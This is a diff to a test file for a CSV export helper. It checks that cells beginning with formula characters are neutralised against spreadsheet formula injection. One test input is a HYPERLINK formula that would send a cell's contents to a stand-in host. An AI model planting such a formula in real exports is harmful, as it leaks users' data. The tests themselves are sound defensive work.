@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { csvField, toCsv } from './csv.ts';
+import { csvField, neutralise, toCsv } from './csv.ts';
 
 describe('csvField', () => {
   it.each([
@@ -11,6 +11,12 @@ describe('csvField', () => {
     ['formula neutralised', '=HYPERLINK("x")', '"\'=HYPERLINK(""x"")"'],
     ['leading minus in text', '-sum', "'-sum"],
     ['leading at-sign', '@cmd', "'@cmd"],
+    ['leading plus', '+62 711', "'+62 711"],
+    ['leading tab', '\t=1', "'\t=1"],
+    ['leading carriage return', '\r=1', '"\'\r=1"'],
+    ['apostrophe before a formula gets one more', "'=1", "''=1"],
+    ['apostrophe before plain text left alone', "'biasa", "'biasa"],
+    ['a number written as text stays a number', '-0.25', '-0.25'],
   ])('%s', (_name, value, expected) => {
     expect(csvField(value)).toBe(expected);
   });
@@ -19,6 +25,12 @@ describe('csvField', () => {
     expect(csvField(-0.25)).toBe('-0.25');
     expect(csvField(15000)).toBe('15000');
     expect(csvField(true)).toBe('true');
+  });
+
+  it('neutralises every cell a spreadsheet would run, whichever CSV of the app writes it', () => {
+    const csv = toCsv(['catatan', 'nilai'], [['=HYPERLINK("http://contoh.invalid/?d="&A2,"Lihat bukti")', -0.25], ['@SUM(A1)', 3]], { bom: false, separator: ';', decimal: ',' });
+    expect(csv).toBe('catatan;nilai\r\n"\'=HYPERLINK(""http://contoh.invalid/?d=""&A2,""Lihat bukti"")";-0,25\r\n\'@SUM(A1);3\r\n');
+    for (const text of ['=1', "'=1", "''-x", 'biasa', '-0.25']) expect(neutralise(text).replace(/^'(?='*[=+\-@\t\r])/, '')).toBe(text);
   });
 
   it('leaves null and undefined empty', () => {
